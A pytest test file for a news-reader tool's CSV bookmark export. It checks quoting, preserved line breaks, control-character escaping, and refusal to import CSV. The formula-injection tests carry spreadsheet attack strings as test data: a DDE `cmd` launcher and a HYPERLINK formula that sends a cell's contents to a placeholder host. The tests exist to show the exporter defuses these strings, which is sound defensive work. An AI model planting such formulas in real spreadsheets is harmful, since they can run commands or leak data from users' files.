"""`bookmarks export --format csv` (Q9 #9): one row per bookmark for an analyst's spreadsheet,
RFC 4180 quoting, a note's line breaks kept inside its quotes, a cell that a spreadsheet would
run as a formula made text, and `bookmarks import` of a CSV refused in one line."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from newsreader.cli import build_parser, main
from newsreader.config import Config
from newsreader.corpus.loader import load_corpus
from newsreader.errors import UserError
from newsreader.resources import seeds_dir
from newsreader.store.db import Bookmark
from newsreader.store.export import CSV_COLUMNS, FORMATS, export_bookmarks, parse_export, read_export_file

NOTE = 'Checked, twice: the "official" count\nsecond line, too'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def article(**fields: object) -> SimpleNamespace:
    base = {"id": "a-1", "title": "T", "file": "topic/a 1.txt", "byline": "By Jane Doe", "dateline": "BERN",
            "body": ["First paragraph.", "Second."], "summary": []}
    return SimpleNamespace(**(base | fields))


def bookmark(**fields: object) -> Bookmark:
    base = {"article_id": "a-1", "title": "A title, with a comma", "source": "reuters.com",
            "date": dt.date(2024, 5, 3), "tags": ("iran", "talks"), "note": NOTE,
            "created_at": dt.datetime(2026, 11, 24, 13, 5, 9, tzinfo=dt.timezone.utc)}
    return Bookmark(**(base | fields))


def test_one_row_per_bookmark_with_its_article_and_the_note_kept_whole() -> None:
    text = export_bookmarks([bookmark(), bookmark(article_id="gone-2", title="Gone", note="")], "csv",
                            articles={"a-1": article()})
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    assert text.endswith("\r\n") and text.count("\r\n") == 3  # header and two rows: CRLF ends each (RFC 4180)
    first, gone = rows(text)
    assert first == {"id": "a-1", "title": "A title, with a comma", "date": "2024-05-03", "source": "reuters.com",
                     "byline": "By Jane Doe", "dateline": "BERN", "tags": "iran, talks", "note": NOTE,
                     "file": "topic/a 1.txt", "url": "", "bookmarked_utc": "2026-11-24 13:05:09", "in_corpus": "yes",
                     "first_paragraph": "First paragraph."}
    assert '"Checked, twice: the ""official"" count\nsecond line, too"' in text  # quotes doubled, LF inside
    assert gone["in_corpus"] == "no" and gone["byline"] == gone["file"] == gone["first_paragraph"] == ""


def test_unreadable_corpus_leaves_in_corpus_unknown() -> None:
    """`articles` None is a corpus that could not be read: "no" would claim every story gone."""
    (row,) = rows(export_bookmarks([bookmark()], "csv", articles=None))
    assert row["in_corpus"] == "" and row["file"] == "" and row["note"] == NOTE


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_is_made_text(start: str) -> None:
    note = f"{start}cmd|' /C calc'!A0\n=second line"
    title = f'{start}HYPERLINK("http://x.example/?"&A1, "Click")'
    (row,) = rows(export_bookmarks([bookmark(note=note, title=title)], "csv",
                                   articles={"a-1": article(byline=f"{start}Jane")}))
    assert row["note"] == "'" + note and row["title"] == "'" + title and row["byline"] == f"'{start}Jane"
    (row,) = rows(export_bookmarks([bookmark(note="a = b, -1 @home")], "csv"))
    assert row["note"] == "a = b, -1 @home"  # only a cell's first character counts


def test_controls_are_escaped_but_line_breaks_kept() -> None:
    """ESC from an imported file must not reach a terminal (`-o -`); a CR LF typed in a
    note is one line break, a lone CR an escape (a spreadsheet would split the line)."""
    (row,) = rows(export_bookmarks([bookmark(title="Bad\x1b[2J title", note="one\r\ntwo\rthree")], "csv"))
    assert row["title"] == "Bad\\x1b[2J title" and row["note"] == "one\ntwo\\rthree"


def test_csv_cannot_be_imported_and_the_line_says_what_can(tmp_path: Path) -> None:
    text = export_bookmarks([bookmark()], "csv")
    for name in ("b.csv", "renamed.txt"):
        (tmp_path / name).write_text(text, encoding="utf-8")
        with pytest.raises(UserError) as caught:
            read_export_file(tmp_path / name)
        assert caught.value.message.count("\n") == 0
        assert "CSV cannot be imported" in caught.value.message and "JSON or YAML" in caught.value.message
    # A spreadsheet saved it again (a byte-order mark, other columns): still said to be CSV.
    (tmp_path / "sheet.CSV").write_text("\ufeffTitle;Note\r\nx;y\r\n", encoding="utf-8")
    with pytest.raises(UserError, match="CSV cannot be imported"):
        read_export_file(tmp_path / "sheet.CSV")
    with pytest.raises(UserError, match="CSV cannot be imported"):
        parse_export("\ufeff" + text, "-")
    (tmp_path / "x.yaml").write_text("a: 1\n", encoding="utf-8")
    with pytest.raises(UserError, match="not a newsreader bookmarks export"):  # not CSV: as before
        read_export_file(tmp_path / "x.yaml")


def test_the_cli_offers_every_export_format_without_loading_the_store() -> None:
    """`--format`'s choices are `export.FORMATS`, read only when asked: importing the export
    module while building the parser loaded the store's module on every command (~20 ms)."""
    parser = build_parser()
    for fmt in FORMATS:
        assert parser.parse_args(["bookmarks", "export", "--format", fmt]).format == fmt
    with pytest.raises(SystemExit):
        parser.parse_args(["bookmarks", "export", "--format", "xlsx"])
    code = ("import sys; from newsreader.cli import build_parser; build_parser(); "
            "print(sorted(m for m in sys.modules if m.startswith('newsreader.store')))")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                          cwd=Path(__file__).resolve().parents[1])
    assert done.stdout.strip() == "[]"


@pytest.fixture
def corpus(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("NEWSREADER_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "corpus"
    folder.mkdir()
    for page in sorted(seeds_dir().glob("*.txt"))[:2]:
        shutil.copy(page, folder / page.name)
    return folder


def test_cli_csv_export_to_stdout_and_to_a_file(corpus: Path, tmp_path: Path, capsys) -> None:
    first = load_corpus(corpus, Config()).articles[0]
    note = 'a, b "c"\n=cmd'
    assert main(["bookmarks", "add", first.id, "--corpus", str(corpus), "--tag", "x", "--note", note]) == 0
    capsys.readouterr()
    assert main(["bookmarks", "export", "--format", "csv", "-o", "-", "--corpus", str(corpus)]) == 0
    out, err = capsys.readouterr()
    (row,) = rows(out)  # stdout holds the CSV alone, as for the other formats
    assert row["id"] == first.id and row["file"] == first.file and row["in_corpus"] == "yes"
    assert row["note"] == note and row["tags"] == "x" and row["first_paragraph"]
    assert "exported" not in err
    assert main(["bookmarks", "export", "--format", "csv", "--corpus", str(corpus)]) == 0
    (written,) = tmp_path.glob("bookmarks-*.csv")
    assert written.read_bytes().decode("utf-8") == out and f"to {written.name}" in capsys.readouterr().err
    assert main(["bookmarks", "import", str(written)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "CSV cannot be imported" in err
